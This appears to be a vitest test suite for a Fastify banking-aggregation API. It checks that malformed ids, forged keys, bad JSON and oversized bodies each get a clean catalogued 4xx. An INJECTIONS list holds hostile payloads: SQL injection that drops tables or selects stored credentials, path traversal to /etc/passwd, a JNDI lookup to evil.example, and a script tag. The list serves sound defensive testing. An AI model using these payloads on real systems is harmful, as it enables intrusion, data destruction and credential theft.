/**
 * The bad-input families and quality bar S5 (enumeration) of docs/quality-bars.md, against a
 * whole app.
 *
 * Every bad input must get a catalogued 4xx — status < 500, a JSON body whose HttpStatusCode
 * equals the status, a FlinksCode of errors/catalog.ts (on the wire: see wireFlinksCode) and
 * a Message, no stack trace — and must lose nothing: the cards and sessions that existed
 * before still work afterwards.
 */
import { randomUUID } from "node:crypto";
import { join } from "node:path";
import SqliteDatabase from "better-sqlite3";
import type { LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ErrorCode, errorCatalog, wireFlinksCode } from "../../src/errors/catalog.js";
import { createTestApp, SANDBOX_ANSWERS, type TestApp, type TestCustomer } from "../helpers/test-app.js";

/** randomInt: () => 2 makes the sandbox always ask this question. */
const PROMPT = "What shape do people like most?";
const ANSWER = SANDBOX_ANSWERS[PROMPT] ?? "Triangle";
const GREATDAY = { Institution: "FlinksCapital", Password: "Everyday", MostRecentCached: false, Save: true };

// ---------------------------------------------------------------------------------------
// The error contract
// ---------------------------------------------------------------------------------------

/** Wire FlinksCode → the HTTP statuses it may carry (internal codes share some wire codes). */
const STATUSES_BY_WIRE_CODE = new Map<string, Set<number>>();
for (const [code, entry] of Object.entries(errorCatalog)) {
  const wire = wireFlinksCode(code as ErrorCode);
  STATUSES_BY_WIRE_CODE.set(wire, new Set([...(STATUSES_BY_WIRE_CODE.get(wire) ?? []), entry.httpStatus]));
}

/**
 * Stack-trace text. A search for the literal `"at "` would also match plain English ("that has",
 * "format"), so frames are recognised by their shape instead: "at fn (file:line:col)".
 */
const STACK_TRACE = [/\bat\s+\S[^\n]*:\d+:\d+/, /\n\s+at\s/, /\.ts:\d/, /\.js:\d/, /node:internal/, /node_modules/];

interface ErrorBody {
  HttpStatusCode: number;
  FlinksCode: string;
  Message: string;
  [key: string]: unknown;
}

function describeResponse(response: LightMyRequestResponse): string {
  return `${response.statusCode} ${response.body.slice(0, 400)}`;
}

/** Asserts the whole error contract and returns the parsed body. */
function expectCatalogued(response: LightMyRequestResponse, label = ""): ErrorBody {
  const where = `${label} → ${describeResponse(response)}`;
  expect(response.statusCode, where).toBeGreaterThanOrEqual(400);
  expect(response.statusCode, where).toBeLessThan(500);
  expect(String(response.headers["content-type"]), where).toMatch(/^application\/json/);
  let body: ErrorBody | undefined;
  expect(() => {
    body = JSON.parse(response.body) as ErrorBody;
  }, where).not.toThrow();
  if (!body) throw new Error(where);
  expect(body.HttpStatusCode, where).toBe(response.statusCode);
  expect(typeof body.FlinksCode, where).toBe("string");
  expect([...STATUSES_BY_WIRE_CODE.keys()], where).toContain(body.FlinksCode);
  expect([...(STATUSES_BY_WIRE_CODE.get(body.FlinksCode) ?? [])], where).toContain(response.statusCode);
  expect(typeof body.Message, where).toBe("string");
  for (const pattern of STACK_TRACE) expect(response.body, where).not.toMatch(pattern);
  // A clear error does not echo a megabyte of input back.
  expect(response.body.length, where).toBeLessThan(8192);
  return body;
}

/** Tolerated input: anything but a 5xx, and a well-formed body either way. */
function expectWellFormed(response: LightMyRequestResponse, label = ""): void {
  const where = `${label} → ${describeResponse(response)}`;
  expect(response.statusCode, where).toBeLessThan(500);
  if (response.statusCode >= 400) {
    expectCatalogued(response, label);
    return;
  }
  const body = JSON.parse(response.body) as { HttpStatusCode?: unknown };
  expect(body.HttpStatusCode, where).toBe(response.statusCode);
}

function expectCode(response: LightMyRequestResponse, code: ErrorCode, label = ""): ErrorBody {
  const body = expectCatalogued(response, label);
  expect(body.FlinksCode, `${label} → ${describeResponse(response)}`).toBe(wireFlinksCode(code));
  expect(response.statusCode).toBe(errorCatalog[code].httpStatus);
  return body;
}

// ---------------------------------------------------------------------------------------
// A world with every kind of id: live, other customer's, deleted, expired, used up
// ---------------------------------------------------------------------------------------

interface Card {
  loginId: string;
  requestId: string;
}

interface World {
  t: TestApp;
  other: TestCustomer;
  /** This customer's card and a live authorized session on it; nothing bad may touch it. */
  keep: Card;
  keepAccounts: unknown;
  /** A live session stuck at its 203 challenge, and the token that opened it (now used). */
  pending: { requestId: string; token: string };
  /** The other customer's card and its live session. */
  othersCard: Card;
  /** A card of this customer that was deleted, and the session it had. */
  deleted: Card;
  /** A card of this customer whose session has expired. */
  expired: Card;
  /** A session ended by too many wrong MFA answers. */
  usedUp: string;
  /** A session whose login failed on a wrong password. */
  failedLogin: string;
  /** The authorize token that opened `failedLogin`: used, bound to that session. */
  failedLoginToken: string;
  expiredToken: string;
  othersToken: string;
}

function apiKey(t: TestApp, who?: TestCustomer): Record<string, string> {
  return t.apiKeyHeaders(who);
}

async function connectCard(t: TestApp, username: string): Promise<Card> {
  const body = await t.connect(username);
  return { loginId: body.Login.Id, requestId: body.RequestId };
}

async function connectOtherCustomer(t: TestApp, who: TestCustomer, username: string): Promise<Card> {
  const response = await t.app.inject({
    method: "POST",
    url: t.path("Authorize", who.customerId),
    payload: { ...GREATDAY, Username: username },
    headers: apiKey(t, who),
  });
  expect(response.statusCode, response.body).toBe(200);
  const body = response.json();
  return { loginId: body.Login.Id, requestId: body.RequestId };
}

async function buildWorld(): Promise<World> {
  const t = await createTestApp({ randomInt: () => 2 });
  const other = await t.addCustomer();

  // Things that must be expired: made first, then the clock moves past every lifetime.
  const expiredToken = await t.generateToken();
  const expired = await connectCard(t, "Greatday+expired");
  t.clock.advanceSeconds(Math.max(t.config.sessions.idleTtlSeconds, t.config.sessions.authorizeTokenTtlSeconds) + 1);

  const keep = await connectCard(t, "Greatday+keep");
  const detail = await t.post("GetAccountsDetail", { RequestId: keep.requestId }, apiKey(t));
  expect(detail.statusCode).toBe(200);

  const token = await t.generateToken();
  const opened = await t.post("Authorize", { ...GREATDAY, Username: "Greatday+pending" }, { "flinks-auth-key": token });
  expect(opened.statusCode).toBe(203);

  const othersCard = await connectOtherCustomer(t, other, "greatday_nomfa+other");
  const othersToken = await t.generateToken(other);

  const deleted = await connectCard(t, "Greatday+deleted");
  const removal = await t.app.inject({ method: "DELETE", url: t.path(`DeleteCard/${deleted.loginId}`), headers: apiKey(t) });
  expect(removal.statusCode).toBe(200);

  const usedUpOpen = await t.authorize({ ...GREATDAY, Username: "Greatday+usedup" });
  const usedUp = usedUpOpen.json().RequestId as string;
  for (let i = 0; i < t.config.sessions.mfaAttemptsPerRequest; i++) {
    await t.post("Authorize", { RequestId: usedUp, SecurityResponses: { [PROMPT]: "Circle" } }, apiKey(t));
  }
  const failedLoginToken = await t.generateToken();
  const failed = await t.post(
    "Authorize",
    { ...GREATDAY, Username: "Greatday+failed", Password: "wrong-password" },
    { "flinks-auth-key": failedLoginToken },
  );
  expectCode(failed, "INVALID_PASSWORD");

  return {
    t,
    other,
    keep,
    keepAccounts: detail.json().Accounts,
    pending: { requestId: opened.json().RequestId, token },
    othersCard,
    deleted,
    expired,
    usedUp,
    failedLogin: failed.json().RequestId,
    failedLoginToken,
    expiredToken,
    othersToken,
  };
}

// ---------------------------------------------------------------------------------------
// Bad identifiers
// ---------------------------------------------------------------------------------------

const INJECTIONS = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE sessions; --",
  '"; DROP TABLE logins; --',
  "1' UNION SELECT credentials_enc FROM logins --",
  "%' OR request_id LIKE '%",
  "00000000-0000-0000-0000-000000000000' OR '1'='1",
  "$where: '1 == 1'",
  "../../../etc/passwd",
  "$" + "{jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
];

type IdKind = "requestId" | "loginId";

/** A bad id by label; the value may depend on the world (another customer's id…). */
type BadId = readonly [label: string, value: (w: World, kind: IdKind) => unknown];

const BAD_IDS: readonly BadId[] = [
  ["empty string", () => ""],
  ["whitespace", () => "   "],
  ["null", () => null],
  ["number", () => 42],
  ["negative float", () => -1.5],
  ["boolean", () => true],
  ["empty array", () => []],
  ["array of two ids", (w, kind) => [ownId(w, kind), ownId(w, kind)]],
  ["object", () => ({})],
  ["operator object", () => ({ $ne: null })],
  ["10 KB string", () => "x".repeat(10 * 1024)],
  ["valid id followed by 10 KB", (w, kind) => ownId(w, kind) + "x".repeat(10 * 1024)],
  ["valid id with a NUL byte", (w, kind) => `${ownId(w, kind)}\u0000`],
  ["NUL byte first", (w, kind) => `\u0000${ownId(w, kind)}`],
  ["NUL byte alone", () => "\u0000"],
  ["valid id with CRLF and more", (w, kind) => `${ownId(w, kind)}\r\nx`],
  ["valid id with a Cyrillic look-alike", (w, kind) => ownId(w, kind).replace(/[a-f]/, "а")],
  ["valid id without dashes", (w, kind) => ownId(w, kind).replace(/-/g, "")],
  ["valid id in braces", (w, kind) => `{${ownId(w, kind)}}`],
  ["random valid GUID", () => randomUUID()],
  ["nil GUID", () => "00000000-0000-0000-0000-000000000000"],
  ["max GUID", () => "ffffffff-ffff-ffff-ffff-ffffffffffff"],
  ["another customer's", (w, kind) => (kind === "requestId" ? w.othersCard.requestId : w.othersCard.loginId)],
  ["another customer's, upper case", (w, kind) => (kind === "requestId" ? w.othersCard.requestId : w.othersCard.loginId).toUpperCase()],
  ["deleted", (w, kind) => (kind === "requestId" ? w.deleted.requestId : w.deleted.loginId)],
  ["expired", (w, kind) => (kind === "requestId" ? w.expired.requestId : w.deleted.loginId)],
  ["already used (ended by wrong answers)", (w, kind) => (kind === "requestId" ? w.usedUp : w.deleted.loginId)],
  ["of a failed login", (w, kind) => (kind === "requestId" ? w.failedLogin : w.othersCard.loginId)],
  ["the other kind of id", (w, kind) => (kind === "requestId" ? w.keep.loginId : w.keep.requestId)],
  ...INJECTIONS.map((injection): BadId => [`injection ${JSON.stringify(injection)}`, () => injection]),
];

function ownId(w: World, kind: IdKind): string {
  return kind === "requestId" ? w.keep.requestId : w.keep.loginId;
}

interface IdTarget {
  name: string;
  kind: IdKind;
  send(w: World, id: unknown): Promise<LightMyRequestResponse>;
}

const BODY_ID_TARGETS: readonly IdTarget[] = [
  {
    name: "POST /Authorize {RequestId, SecurityResponses} (x-api-key)",
    kind: "requestId",
    send: (w, id) => w.t.post("Authorize", { RequestId: id, SecurityResponses: { [PROMPT]: [ANSWER] } }, apiKey(w.t)),
  },
  {
    name: "POST /Authorize {RequestId} (authorize token)",
    kind: "requestId",
    send: (w, id) => w.t.authorize({ RequestId: id }),
  },
  {
    name: "POST /Authorize {LoginId, MostRecentCached: true} (authorize token)",
    kind: "loginId",
    send: (w, id) => w.t.authorize({ LoginId: id, MostRecentCached: true }),
  },
  {
    name: "POST /Authorize {LoginId, MostRecentCached: false} (x-api-key)",
    kind: "loginId",
    send: (w, id) => w.t.post("Authorize", { LoginId: id, MostRecentCached: false }, apiKey(w.t)),
  },
  {
    name: "POST /GetAccountsDetail {RequestId}",
    kind: "requestId",
    send: (w, id) => w.t.post("GetAccountsDetail", { RequestId: id }, apiKey(w.t)),
  },
  {
    name: "POST /GetAccountsSummary {RequestId}",
    kind: "requestId",
    send: (w, id) => w.t.post("GetAccountsSummary", { RequestId: id }, apiKey(w.t)),
  },
];

interface PathIdTarget extends IdTarget {
  method: "GET" | "POST" | "DELETE";
  operation: string;
}

function pathTarget(method: PathIdTarget["method"], operation: string, kind: IdKind): PathIdTarget {
  return {
    method,
    operation,
    kind,
    name: `${method} /${operation}/{${kind}}`,
    send: (w, id) => w.t.app.inject({ method, url: w.t.path(`${operation}/${encodeURIComponent(String(id))}`), headers: apiKey(w.t) }),
  };
}

const PATH_ID_TARGETS: readonly PathIdTarget[] = [
  pathTarget("GET", "GetAccountsDetailAsync", "requestId"),
  pathTarget("POST", "GetAccountsDetailAsync", "requestId"),
  pathTarget("GET", "GetAccountsSummaryAsync", "requestId"),
  pathTarget("POST", "GetAccountsSummaryAsync", "requestId"),
  pathTarget("DELETE", "DeleteCard", "loginId"),
];

/** Fastify refuses path parameters longer than this before any bankgate code runs (maxParamLength). */
const MAX_PARAM_LENGTH = 100;

/** String ids of ordinary length; 10 KB and malformed-escape ids have tests of their own below. */
function pathIds(): BadId[] {
  return BAD_IDS.filter(([, value]) => {
    const sample = value(SAMPLE_WORLD, "requestId");
    return typeof sample === "string" && encodeURIComponent(sample).length <= MAX_PARAM_LENGTH;
  });
}

/** Shape-only stand-in for filtering the table before the real world exists. */
const SAMPLE_WORLD = {
  keep: { loginId: randomUUID(), requestId: randomUUID() },
  othersCard: { loginId: randomUUID(), requestId: randomUUID() },
  deleted: { loginId: randomUUID(), requestId: randomUUID() },
  expired: { loginId: randomUUID(), requestId: randomUUID() },
  usedUp: randomUUID(),
  failedLogin: randomUUID(),
} as unknown as World;

const OPERATIONS: readonly { method: "GET" | "POST" | "DELETE"; operation: string; body?: (w: World) => object }[] = [
  { method: "POST", operation: "GenerateAuthorizeToken" },
  { method: "POST", operation: "Authorize", body: () => ({ ...GREATDAY, Username: "Greatday" }) },
  { method: "POST", operation: "GetAccountsDetail", body: (w) => ({ RequestId: w.keep.requestId }) },
  { method: "POST", operation: "GetAccountsSummary", body: (w) => ({ RequestId: w.keep.requestId }) },
  { method: "GET", operation: "GetAccountsDetailAsync/{requestId}" },
  { method: "POST", operation: "GetAccountsSummaryAsync/{requestId}" },
  { method: "DELETE", operation: "DeleteCard/{loginId}" },
];

function operationPath(w: World, operation: string): string {
  return operation.replace("{requestId}", w.keep.requestId).replace("{loginId}", w.keep.loginId);
}

describe("bad input", () => {
  let w: World;
  let t: TestApp;
  beforeAll(async () => {
    w = await buildWorld();
    t = w.t;
  });
  afterAll(() => w?.t.close());

  describe("identifiers in the body", () => {
    for (const target of BODY_ID_TARGETS) {
      describe(target.name, () => {
        it.each(BAD_IDS)("%s → catalogued 4xx", async (label, value) => {
          expectCatalogued(await target.send(w, value(w, target.kind)), `${target.name} ${label}`);
        });
      });
    }

    it("an expired RequestId of this customer is SESSION_EXPIRED", async () => {
      expectCode(await t.post("GetAccountsDetail", { RequestId: w.expired.requestId }, apiKey(t)), "SESSION_EXPIRED");
    });

    it("an expired authorize token is ACCESS_DENIED", async () => {
      const response = await t.post("Authorize", { ...GREATDAY, Username: "Greatday" }, { "flinks-auth-key": w.expiredToken });
      expectCode(response, "ACCESS_DENIED");
    });

    it.each(
      BODY_ID_TARGETS.filter((target) => !target.name.includes("authorize token)") || target.kind === "loginId").map(
        (target) => [target.name, target] as const,
      ),
    )("%s: an array holding a valid id → catalogued 4xx", async (name, target) => {
      const id = target.kind === "requestId" ? w.keep.requestId : w.keep.loginId;
      expectCatalogued(await target.send(w, [id]), `${name} [id]`);
    });

    it("an array Username → catalogued 4xx", async () => {
      expectCatalogued(await t.authorize({ ...GREATDAY, Username: ["Greatday"], Password: ["Everyday"] }), "array credentials");
    });
  });

  describe("identifiers in the path", () => {
    for (const target of PATH_ID_TARGETS) {
      describe(target.name, () => {
        it.each(pathIds())("%s → catalogued 4xx", async (label, value) => {
          expectCatalogued(await target.send(w, value(w, target.kind)), `${target.name} ${label}`);
        });

        it("a 65-character id → catalogued 4xx", async () => {
          expectCatalogued(await target.send(w, "a".repeat(65)), `${target.name} 65 chars`);
        });

        it("a 10 KB id → catalogued 4xx", async () => {
          expectCatalogued(await target.send(w, "x".repeat(10 * 1024)), `${target.name} 10 KB`);
        });

        it.each(["%E0%A4%A", "%zz", "%FF"])("a bad percent-escape %s → catalogued 4xx", async (badEscape) => {
          const response = await t.app.inject({
            method: target.method,
            url: t.path(`${target.operation}/${badEscape}`),
            headers: apiKey(t),
          });
          expectCatalogued(response, `${target.name} ${badEscape}`);
        });
      });
    }
  });

  describe("the customerId path segment", () => {
    const badCustomers: readonly BadId[] = [
      ["empty", () => ""],
      ["null", () => "null"],
      ["number", () => "42"],
      ["random valid GUID", () => randomUUID()],
      ["nil GUID", () => "00000000-0000-0000-0000-000000000000"],
      ["another customer's (with this customer's credentials)", (world) => world.other.customerId],
      ["valid id with an encoded NUL", (world) => `${world.t.customer.customerId}%00`],
      ["encoded NUL", () => "%00"],
      ["65 characters", () => "c".repeat(65)],
      ...INJECTIONS.map((injection): BadId => [`injection ${JSON.stringify(injection)}`, () => encodeURIComponent(injection)]),
    ];
    for (const op of OPERATIONS) {
      it.each(badCustomers)(`${op.method} /${op.operation}: %s → catalogued 4xx`, async (label, value) => {
        const customerId = String(value(w, "requestId"));
        const headers = op.operation === "GenerateAuthorizeToken" ? { "flinks-auth-key": t.customer.secretKey } : apiKey(t);
        const response = await t.app.inject({
          method: op.method,
          url: t.path(operationPath(w, op.operation), customerId),
          ...(op.body ? { payload: op.body(w) } : {}),
          headers,
        });
        expectCatalogued(response, `${op.operation} customer ${label}`);
      });
    }

    it("a 10 KB customerId → catalogued 4xx", async () => {
      const response = await t.app.inject({
        method: "POST",
        url: t.path("GetAccountsDetail", "x".repeat(10 * 1024)),
        payload: {},
        headers: apiKey(t),
      });
      expectCatalogued(response, "10 KB customerId");
    });
  });

  describe("credentials in headers", () => {
    const authKeys: readonly BadId[] = [
      ["absent", () => undefined],
      ["empty", () => ""],
      ["random GUID", () => randomUUID()],
      ["the API key instead", (world) => world.t.customer.apiKey],
      ["another customer's secret", (world) => world.other.secretKey],
      ["the secret with a trailing space", (world) => `${world.t.customer.secretKey} `],
      ["the secret in upper case", (world) => world.t.customer.secretKey.toUpperCase()],
      ["the secret with a NUL byte", (world) => `${world.t.customer.secretKey}\u0000`],
      ["10 KB", () => "k".repeat(10 * 1024)],
      ...INJECTIONS.map((injection): BadId => [`injection ${JSON.stringify(injection)}`, () => injection]),
    ];
    it.each(authKeys)("POST /GenerateAuthorizeToken with flinks-auth-key %s → 401 UNAUTHORIZED", async (label, value) => {
      const key = value(w, "requestId");
      const response = await t.app.inject({
        method: "POST",
        url: t.path("GenerateAuthorizeToken"),
        headers: key === undefined ? {} : { "flinks-auth-key": String(key) },
      });
      expectCode(response, "UNAUTHORIZED", label);
    });

    const tokens: readonly BadId[] = [
      ["random GUID", () => randomUUID()],
      ["already used for another session", (world) => world.failedLoginToken],
      ["expired", (world) => world.expiredToken],
      ["another customer's", (world) => world.othersToken],
      ["the secret key", (world) => world.t.customer.secretKey],
      ["10 KB", () => "t".repeat(10 * 1024)],
      ...INJECTIONS.map((injection): BadId => [`injection ${JSON.stringify(injection)}`, () => injection]),
    ];
    it.each(tokens)("POST /Authorize (live) with authorize token %s → 401 ACCESS_DENIED", async (label, value) => {
      const response = await t.post(
        "Authorize",
        { ...GREATDAY, Username: "Greatday" },
        { "flinks-auth-key": String(value(w, "requestId")) },
      );
      expectCode(response, "ACCESS_DENIED", label);
    });
    it.each(tokens)("POST /Authorize (continue) with authorize token %s → 401 ACCESS_DENIED", async (label, value) => {
      const response = await t.post("Authorize", { RequestId: w.pending.requestId }, { "flinks-auth-key": String(value(w, "requestId")) });
      expectCode(response, "ACCESS_DENIED", label);
    });

    const apiKeys: readonly (readonly [string, (world: World) => Record<string, string>])[] = [
      ["no credentials", () => ({})],
      ["empty x-api-key", () => ({ "x-api-key": "" })],
      ["random x-api-key", () => ({ "x-api-key": randomUUID() })],
      ["another customer's API key", (world) => apiKey(world.t, world.other)],
      ["the secret key as API key", (world) => ({ "x-api-key": world.t.customer.secretKey })],
      ["the API key with a trailing space", (world) => ({ "x-api-key": `${world.t.customer.apiKey} ` })],
      ["10 KB x-api-key", () => ({ "x-api-key": "a".repeat(10 * 1024) })],
      ["injection x-api-key", () => ({ "x-api-key": "' OR '1'='1" })],
      ["Bearer with a random key", () => ({ authorization: `Bearer ${randomUUID()}` })],
      ["Bearer with no key", () => ({ authorization: "Bearer " })],
      ["Basic auth", (world) => ({ authorization: `Basic ${Buffer.from(`x:${world.t.customer.apiKey}`).toString("base64")}` })],
      ["an authorize token not bound to this session", () => ({ "flinks-auth-key": randomUUID() })],
    ];
    const dataCalls: readonly (readonly [string, (world: World, headers: Record<string, string>) => Promise<LightMyRequestResponse>])[] = [
      ["POST /GetAccountsDetail", (world, headers) => world.t.post("GetAccountsDetail", { RequestId: world.keep.requestId }, headers)],
      ["POST /GetAccountsSummary", (world, headers) => world.t.post("GetAccountsSummary", { RequestId: world.keep.requestId }, headers)],
      [
        "GET /GetAccountsDetailAsync",
        (world, headers) =>
          world.t.app.inject({ method: "GET", url: world.t.path(`GetAccountsDetailAsync/${world.keep.requestId}`), headers }),
      ],
      [
        "POST /GetAccountsSummaryAsync",
        (world, headers) =>
          world.t.app.inject({ method: "POST", url: world.t.path(`GetAccountsSummaryAsync/${world.keep.requestId}`), headers }),
      ],
      [
        "DELETE /DeleteCard",
        (world, headers) => world.t.app.inject({ method: "DELETE", url: world.t.path(`DeleteCard/${world.keep.loginId}`), headers }),
      ],
    ];
    for (const [callName, call] of dataCalls) {
      it.each(apiKeys)(`${callName} with %s → 401 ACCESS_DENIED`, async (label, headers) => {
        expectCode(await call(w, headers(w)), "ACCESS_DENIED", `${callName} ${label}`);
      });
    }
  });

  // -------------------------------------------------------------------------------------
  // JSON
  // -------------------------------------------------------------------------------------

  interface BodyEndpoint {
    name: string;
    method: "POST" | "DELETE";
    url(w: World): string;
    headers(w: World): Record<string, string>;
    /** Has a body schema: every "schema"-kind input must be refused. */
    schema: boolean;
  }

  const BODY_ENDPOINTS: readonly BodyEndpoint[] = [
    { name: "POST /Authorize", method: "POST", url: (x) => x.t.path("Authorize"), headers: (x) => apiKey(x.t), schema: true },
    {
      name: "POST /GetAccountsDetail",
      method: "POST",
      url: (x) => x.t.path("GetAccountsDetail"),
      headers: (x) => apiKey(x.t),
      schema: true,
    },
    {
      name: "POST /GetAccountsSummary",
      method: "POST",
      url: (x) => x.t.path("GetAccountsSummary"),
      headers: (x) => apiKey(x.t),
      schema: true,
    },
    {
      name: "POST /GetAccountsDetailAsync/{requestId}",
      method: "POST",
      url: (x) => x.t.path(`GetAccountsDetailAsync/${x.keep.requestId}`),
      headers: (x) => apiKey(x.t),
      schema: false,
    },
    {
      name: "POST /GetAccountsSummaryAsync/{requestId}",
      method: "POST",
      url: (x) => x.t.path(`GetAccountsSummaryAsync/${x.keep.requestId}`),
      headers: (x) => apiKey(x.t),
      schema: false,
    },
    {
      name: "POST /GenerateAuthorizeToken",
      method: "POST",
      url: (x) => x.t.path("GenerateAuthorizeToken"),
      headers: (x) => ({ "flinks-auth-key": x.t.customer.secretKey }),
      schema: false,
    },
    {
      name: "DELETE /DeleteCard/{unknown loginId}",
      method: "DELETE",
      url: (x) => x.t.path(`DeleteCard/${randomUUID()}`),
      headers: (x) => apiKey(x.t),
      schema: false,
    },
  ];

  /** parse: refused by every endpoint; schema: refused where a body schema applies; tolerated: no 5xx. */
  type JsonKind = "parse" | "schema" | "tolerated";
  type JsonInput = readonly [label: string, kind: JsonKind, payload: (rid: string) => string | Buffer];

  const deep = (depth: number, leaf: string) => "[".repeat(depth) + leaf + "]".repeat(depth);
  const deepObject = (depth: number, leaf: string) => '{"a":'.repeat(depth) + leaf + "}".repeat(depth);
  const zeros = (count: number) => `[${new Array(count).fill("0").join(",")}]`;

  const JSON_INPUTS: readonly JsonInput[] = [
    ["unquoted value", "parse", (rid) => `{"RequestId": ${rid}}`],
    ["single quotes", "parse", (rid) => `{'RequestId': '${rid}'}`],
    ["trailing comma", "parse", (rid) => `{"RequestId": "${rid}",}`],
    ["truncated after the value", "parse", (rid) => `{"RequestId": "${rid}"`],
    ["truncated inside a string", "parse", (rid) => `{"RequestId": "${rid.slice(0, 12)}`],
    ["truncated after a key", "parse", () => `{"RequestId":`],
    ["lone brace", "parse", () => "{"],
    ["lone closing brace", "parse", () => "}"],
    ["truncated literal", "parse", () => "tru"],
    ["NaN", "parse", () => `{"RequestId": NaN}`],
    ["comment", "parse", (rid) => `// hi\n{"RequestId": "${rid}"}`],
    ["two documents", "parse", (rid) => `{"RequestId": "${rid}"}{"RequestId": "${rid}"}`],
    ["raw control character in a string", "parse", (rid) => `{"RequestId": "${rid}\u0001"}`],
    ["bad escape", "parse", () => `{"RequestId": "\\x41"}`],
    ["byte-order mark then garbage", "parse", () => "\uFEFF{garbage"],
    [
      "invalid UTF-8 between tokens",
      "parse",
      (rid) => Buffer.concat([Buffer.from("{"), Buffer.from([0xff, 0xfe]), Buffer.from(`"RequestId": "${rid}"}`)]),
    ],
    [
      "overlong UTF-8 quote",
      "parse",
      (rid) => Buffer.concat([Buffer.from('{"RequestId": '), Buffer.from([0xc0, 0xa2]), Buffer.from(`${rid}"}`)]),
    ],
    ["UTF-16LE body", "parse", (rid) => Buffer.from(`{"RequestId": "${rid}"}`, "utf16le")],
    [
      "invalid UTF-8 inside the id",
      "schema",
      (rid) =>
        Buffer.concat([
          Buffer.from(`{"RequestId": "${rid.slice(0, 8)}`),
          Buffer.from([0xff, 0xfe, 0xc3]),
          Buffer.from(`${rid.slice(8)}"}`),
        ]),
    ],
    ["a top-level array", "schema", (rid) => `["${rid}"]`],
    ["a top-level string", "schema", (rid) => `"${rid}"`],
    ["a top-level number", "schema", () => "42"],
    ["null", "schema", () => "null"],
    ["10,000-deep array as the body", "schema", () => deep(10_000, "0")],
    ["10,000-deep array as the id", "schema", () => `{"RequestId": ${deep(10_000, "0")}}`],
    ["10,000-deep object as the id", "schema", () => `{"RequestId": ${deepObject(10_000, "0")}}`],
    ["100,000-deep array as the body", "schema", () => deep(100_000, "0")],
    ["200,000-element array as the body", "schema", () => zeros(200_000)],
    ["200,000-element array as the id", "schema", () => `{"RequestId": ${zeros(200_000)}}`],
    ["__proto__ carrying the id", "schema", (rid) => `{"__proto__": {"RequestId": "${rid}"}}`],
    ["constructor.prototype carrying the id", "schema", (rid) => `{"constructor": {"prototype": {"RequestId": "${rid}"}}}`],
    ["byte-order mark then a valid body", "tolerated", (rid) => `\uFEFF{"RequestId": "${rid}"}`],
    // json-parser.ts strips one BOM and secure-json-parse strips another: tolerated, not refused.
    ["two byte-order marks then a valid body", "tolerated", (rid) => `\uFEFF\uFEFF{"RequestId": "${rid}"}`],
    ["10,000-deep array in an unknown field", "tolerated", (rid) => `{"RequestId": "${rid}", "Junk": ${deep(10_000, "0")}}`],
    ["10,000-deep object in an unknown field", "tolerated", (rid) => `{"RequestId": "${rid}", "Junk": ${deepObject(10_000, "0")}}`],
    ["200,000-element array in an unknown field", "tolerated", (rid) => `{"RequestId": "${rid}", "Junk": ${zeros(200_000)}}`],
    ["__proto__ next to the id", "tolerated", (rid) => `{"RequestId": "${rid}", "__proto__": {"polluted": true, "LoginId": "x"}}`],
    [
      "constructor.prototype next to the id",
      "tolerated",
      (rid) => `{"RequestId": "${rid}", "constructor": {"prototype": {"polluted": true}}}`,
    ],
    ["nested __proto__", "tolerated", (rid) => `{"RequestId": "${rid}", "RefreshDelta": [{"__proto__": {"polluted": true}}]}`],
    ["duplicate keys", "tolerated", (rid) => `{"RequestId": "${randomUUID()}", "RequestId": "${rid}"}`],
  ];

  describe("JSON", () => {
    for (const endpoint of BODY_ENDPOINTS) {
      describe(endpoint.name, () => {
        it.each(JSON_INPUTS)("%s", async (label, kind, payload) => {
          const response = await w.t.app.inject({
            method: endpoint.method,
            url: endpoint.url(w),
            payload: payload(w.keep.requestId),
            headers: { ...endpoint.headers(w), "content-type": "application/json" },
          });
          if (kind === "parse" || (kind === "schema" && endpoint.schema)) expectCatalogued(response, `${endpoint.name} ${label}`);
          else expectWellFormed(response, `${endpoint.name} ${label}`);
        });

        it("a 2 MB body → 413 PAYLOAD_TOO_LARGE", async () => {
          const response = await w.t.app.inject({
            method: endpoint.method,
            url: endpoint.url(w),
            payload: JSON.stringify({ RequestId: w.keep.requestId, Pad: "x".repeat(2 * 1024 * 1024) }),
            headers: { ...endpoint.headers(w), "content-type": "application/json" },
          });
          expectCode(response, "PAYLOAD_TOO_LARGE");
        });

        it("a body one byte over the limit → 413 PAYLOAD_TOO_LARGE", async () => {
          const head = `{"RequestId": "${w.keep.requestId}", "Pad": "`;
          const padding = w.t.config.server.bodyLimitBytes + 1 - head.length - 2;
          const response = await w.t.app.inject({
            method: endpoint.method,
            url: endpoint.url(w),
            payload: `${head}${"x".repeat(padding)}"}`,
            headers: { ...endpoint.headers(w), "content-type": "application/json" },
          });
          expectCode(response, "PAYLOAD_TOO_LARGE");
        });

        // Any declared type, or none, is read as JSON (docs/decisions.md#wire-format-and-errors):
        // the answer is the one the same body gets as application/json.
        it.each([
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=xyz",
          "application/xml",
          "application/jsonx",
          "application/vnd.api+json",
          "image/png",
          "text/plain",
          "text/plain;charset=UTF-8",
          ";;;",
          "",
          undefined,
        ])("a JSON body as Content-Type %j → the application/json answer", async (contentType) => {
          const send = (type: string | undefined) =>
            w.t.app.inject({
              method: endpoint.method,
              url: endpoint.url(w),
              payload: Buffer.from(JSON.stringify({ RequestId: w.keep.requestId })),
              headers: { ...endpoint.headers(w), ...(type === undefined ? {} : { "content-type": type }) },
            });
          const asJson = await send("application/json");
          const response = await send(contentType);
          expectWellFormed(response, String(contentType));
          expect(response.statusCode, String(contentType)).toBe(asJson.statusCode);
          expect(JSON.parse(response.body).FlinksCode).toBe(JSON.parse(asJson.body).FlinksCode);
        });

        it.each([
          ["application/x-www-form-urlencoded", "RequestId=x&Username=y"],
          ["multipart/form-data; boundary=xyz", '--xyz\r\nContent-Disposition: form-data; name="RequestId"\r\n\r\nx\r\n--xyz--'],
          ["text/plain", "hello"],
          ["application/xml", "<RequestId>x</RequestId>"],
          [undefined, "RequestId: x"],
        ])("a body that is not JSON, as Content-Type %j → 400 INVALID_REQUEST", async (contentType, payload) => {
          const response = await w.t.app.inject({
            method: endpoint.method,
            url: endpoint.url(w),
            payload: Buffer.from(payload),
            headers: { ...endpoint.headers(w), ...(contentType === undefined ? {} : { "content-type": contentType }) },
          });
          expectCode(response, "INVALID_REQUEST", String(contentType));
        });
      });
    }

    it("a 100 MB body → 413 PAYLOAD_TOO_LARGE without reading it", async () => {
      const response = await t.app.inject({
        method: "POST",
        url: t.path("GetAccountsDetail"),
